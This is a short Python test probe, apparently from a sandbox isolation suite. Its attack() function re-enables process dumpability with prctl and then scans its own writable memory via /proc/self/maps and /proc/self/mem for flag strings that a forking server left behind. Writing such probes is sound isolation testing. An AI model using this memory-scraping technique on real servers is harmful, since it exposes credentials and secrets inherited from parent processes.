"""Searches its own process for what a server may have known before it forked.

stopped by: process boundary
unfenced: held
"""
# %%
import ctypes
import re

PR_SET_DUMPABLE = 4


def attack():
    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)  # or the kernel denies it to whoever has changed its user
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps.readlines():
            start, end, mode = re.match("([0-9a-f]+)-([0-9a-f]+) (....)", line).groups()
            if mode == "rw-p":
                try:
                    memory.seek(int(start, 16))
                    data = memory.read(int(end, 16) - int(start, 16))
                except (OSError, OverflowError):
                    continue
                if found := re.findall(rb"flag-[0-9a-f]{32}", data):
                    return found
